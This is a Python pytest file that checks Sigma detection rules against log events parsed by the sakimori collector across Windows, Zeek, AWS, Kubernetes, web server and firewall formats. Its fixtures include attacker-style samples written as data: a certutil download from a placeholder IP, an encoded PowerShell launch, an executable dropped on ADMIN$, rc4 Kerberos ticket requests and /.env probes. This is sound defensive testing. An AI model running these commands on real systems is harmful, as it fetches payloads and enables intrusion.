"""Public Sigma rules find what the collector made of a line: its names are those of the detector's taxonomy."""

import json
from typing import Any

import pytest

from sakimori_collector.domain.format import Reference
from sakimori_collector.domain.formats.windows_names import ECS, SERVICES
from sakimori_collector.domain.formats.zeek_fields import LOGS
from sakimori_collector.domain.reading import Source
from sakimori_common.contracts import Event, Finding
from sakimori_common.instants import parse_instant
from sakimori_detector.domain.loading import load
from sakimori_detector.domain.sources import LOG_SOURCES
from sakimori_detector.domain.taxonomy import HOST, WINDOWS
from sakimori_detector.offline import Latest, OfflineDetector

NOW = Reference(parse_instant("2026-01-16T02:00:00Z"))


def read(*lines: str | dict[str, Any]) -> list[Event]:
    source = Source("test", "test", "auto", NOW, {})
    texts = [line if isinstance(line, str) else json.dumps(line) for line in lines]
    return [event for place, text in enumerate(texts) for event in source.read(text.encode(), place)]


def findings(rule: str, events: list[Event]) -> list[Finding]:
    loaded = load({"rule.yml": rule})
    assert loaded.problems == ()
    detector, latest = OfflineDetector(loaded.rules, loaded.world), Latest()
    latest.add(detector.feed(events))
    return latest.all()


def rule(logsource: str, selection: str, condition: str = "it") -> str:
    return f"""
title: It
status: test
level: high
logsource: {logsource}
detection:
  it: {selection}
  condition: {condition}
"""


def test_windows_data_has_the_names_of_the_taxonomy() -> None:
    taxonomy = {**HOST, **WINDOWS}
    assert {name: to for name, to in ECS.items() if taxonomy.get(name) != to} == {}


def test_every_service_of_windows_and_every_log_of_zeek_is_a_log_source() -> None:
    assert {f"windows.{service}" for service in SERVICES.values()} - set(LOG_SOURCES) == set()
    named = {f"zeek.{log}" for log in LOGS}
    assert {"zeek.conn", "zeek.dns", "zeek.http", "zeek.ssl", "zeek.ssh", "zeek.files", "zeek.notice"} <= named
    assert {name for name in LOG_SOURCES if name.startswith("zeek.")} - named == set()


CERTUTIL = {
    "Image": r"C:\Windows\System32\certutil.exe",
    "CommandLine": "certutil -urlcache -f http://192.0.2.7/a",
    "ParentImage": r"C:\Windows\System32\cmd.exe",
    "OriginalFileName": "CertUtil.exe",
    "User": r"EXAMPLE\alice",
    "IntegrityLevel": "High",
    "Hashes": "SHA256=CD12,IMPHASH=00EF",
}
SYSMON = "Microsoft-Windows-Sysmon/Operational"
TIME = "2026-01-16T01:59:58Z"
WINLOGBEAT = {"@timestamp": TIME, "winlog": {"channel": SYSMON, "event_id": 1, "computer_name": "pc-1"}}
SHAPES = [
    {**WINLOGBEAT, "winlog": {**WINLOGBEAT["winlog"], "event_data": CERTUTIL}},  # type: ignore[dict-item]
    {"EventTime": "2026-01-16 01:59:58", "Hostname": "pc-1", "Channel": SYSMON, "EventID": 1, **CERTUTIL},
    {
        "Event": {
            "System": {"Channel": SYSMON, "EventID": 1, "Computer": "pc-1", "TimeCreated": {"@SystemTime": TIME}},
            "EventData": {"Data": [{"@Name": name, "#text": value} for name, value in CERTUTIL.items()]},
        }
    },
]
PROCESS = r"""{Image|endswith: \certutil.exe, OriginalFileName: CertUtil.exe,
    CommandLine|contains|all: [urlcache, http], ParentImage|endswith: \cmd.exe,
    User|contains: alice, IntegrityLevel: High, Hashes|contains: IMPHASH=00EF}"""


@pytest.mark.parametrize("shape", SHAPES)
def test_a_rule_for_processes_finds_one_in_each_shape(shape: dict[str, Any]) -> None:
    [finding] = findings(rule("{category: process_creation, product: windows}", PROCESS), read(shape))
    assert (finding.entity_type, finding.entity) == ("host.name", "pc-1")
    other = json.loads(json.dumps(shape).replace("urlcache", "decode"))
    assert findings(rule("{category: process_creation, product: windows}", PROCESS), read(other)) == []


def test_a_rule_for_failed_logons_finds_one() -> None:
    logon = {"EventTime": "2026-01-16 01:59:58", "Hostname": "dc-1", "Channel": "Security", "EventID": 4625}
    logon |= {
        "TargetUserName": "administrator",
        "LogonType": "3",
        "IpAddress": "192.0.2.7",
        "EventType": "AUDIT_FAILURE",
    }
    selection = "{EventID: 4625, LogonType: 3, TargetUserName: Administrator, IpAddress: 192.0.2.7, "
    selection += "Keywords: '0x8010000000000000'}"
    assert len(findings(rule("{product: windows, service: security}", selection), read(logon))) == 1
    assert findings(rule("{product: windows, service: security}", selection), read({**logon, "LogonType": "2"})) == []


POWERSHELL = {
    "Event": {
        "System": {
            "Channel": "Windows PowerShell",
            "EventID": 400,
            "Computer": "pc-1",
            "TimeCreated": {"SystemTime": TIME},
        },
        "EventData": {"Data": ["Available", "HostApplication=powershell -enc AAAA"]},
    }
}


@pytest.mark.parametrize(
    ("logsource", "selection", "line"),
    [
        (
            "{product: windows, category: ps_classic_start}",
            "{Data|contains: 'HostApplication=powershell -enc'}",
            POWERSHELL,
        ),
        (
            "{product: zeek, service: smb_files}",
            r"{path|endswith: 'ADMIN$', name|endswith: .exe}",
            r'{"_path":"smb_files","ts":1768528798,"id.orig_h":"192.0.2.7","path":"\\\\srv\\ADMIN$","name":"a.exe"}',
        ),
        (
            "{product: zeek, service: dce_rpc}",
            "{operation: NetrServerAuthenticate3}",
            '{"_path":"dce_rpc","ts":1768528798,"id.orig_h":"192.0.2.7","operation":"NetrServerAuthenticate3"}',
        ),
        (
            "{product: zeek, service: dns}",
            "{query|endswith: .example.com, qtype_name: A, answers: 198.51.100.20, Z: 1}",
            '{"_path":"dns","ts":1768528798,"uid":"C","id.orig_h":"192.0.2.7","query":"a.example.com","qtype_name":"A",'
            '"answers":["198.51.100.20"],"Z":1}',
        ),
        (
            "{product: zeek, service: kerberos}",
            "{request_type: TGS, cipher: rc4-hmac}",
            '{"_path":"kerberos","ts":1768528798,"id.orig_h":"192.0.2.7","request_type":"TGS","cipher":"rc4-hmac"}',
        ),
        (
            "{product: aws, service: cloudtrail}",
            "{eventSource: ec2.amazonaws.com, eventName: ModifyX, requestParameters.enable: true, userAgent: cli}",
            '{"eventTime":"2026-01-16T01:59:58Z","eventSource":"ec2.amazonaws.com","eventName":"ModifyX",'
            '"requestParameters":{"enable":true},"userAgent":"cli"}',
        ),
        (
            "{product: kubernetes, category: application, service: audit}",
            "{verb: create, objectRef.resource: pods, objectRef.subresource: exec, responseStatus.code: 101}",
            '{"auditID":"a","verb":"create","stageTimestamp":"2026-01-16T01:59:58Z","user":{"username":"alice"},'
            '"objectRef":{"resource":"pods","subresource":"exec"},"responseStatus":{"code":101}}',
        ),
        (
            "{category: webserver}",
            "{cs-method: GET, cs-uri-query|contains: /.env, sc-status: 404}",
            '{"ts":1768528798,"request":{"remote_ip":"192.0.2.7","method":"GET","uri":"/.env"},"status":404}',
        ),
        (
            "{category: firewall}",
            "{src_ip: 192.0.2.7, dst_port: 22}",
            "2 123456789012 eni-0a1b 192.0.2.7 198.51.100.20 50000 22 6 20 4249 1768528798 1768528858 REJECT OK",
        ),
    ],
)
def test_rules_find_what_they_ask_for_by_its_public_name(logsource: str, selection: str, line: Any) -> None:
    assert len(findings(rule(logsource, selection), read(line))) == 1
